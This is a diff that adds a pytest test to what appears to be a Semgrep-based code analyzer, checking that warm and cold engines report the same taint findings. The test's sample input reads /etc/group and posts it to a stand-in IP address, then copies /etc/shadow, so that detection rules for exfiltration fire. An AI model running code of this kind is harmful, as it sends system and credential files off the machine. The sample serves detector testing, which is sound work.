@@ -538,3 +538,23 @@ def test_otherwise_above_the_rules_level_is_refused(policies_copy):
     _edit(policies_copy / "analysis.yaml", "    network: MEDIUM", "    network: {level: MEDIUM, provenances: [mai], otherwise: HIGH}")
     with pytest.raises(ConfigurationError, match=r"key ast.rules.network: `otherwise` \(HIGH\) must not be above `level` \(MEDIUM\)"):
         load_analysis_policy(policies_copy)
+
+
+def test_the_warm_engine_runs_the_taint_rules_as_a_cold_run_does(analysis_policy, semgrep):
+    taint_rules = {rule["id"] for rule in analysis_policy.semgrep.rule_documents if rule.get("mode") == "taint"}
+    assert {"send-system-file", "exfiltrate-secret-file", "copy-sensitive-file", "download-into-startup-file"} <= taint_rules
+    code = """
+        import shutil, urllib.request
+        body = open('/etc/group', 'rb').read()
+        urllib.request.urlopen(urllib.request.Request('http://198.51.100.7/u', data=body))
+        shutil.copy('/etc/shadow', 'copy.txt')
+    """
+    cold = SemgrepAnalyzer(analysis_policy.semgrep, warm=False)
+    try:
+        expected = {(f.rule_id, f.line) for f in cold.analyze(submit(code))}
+    finally:
+        cold.close()
+    found = {(f.rule_id, f.line) for f in semgrep.analyze(submit(code))}
+    assert semgrep.warm, semgrep.warm_disabled_reason
+    assert found == expected
+    assert {("send-system-file", 4), ("copy-sensitive-file", 5)} <= found
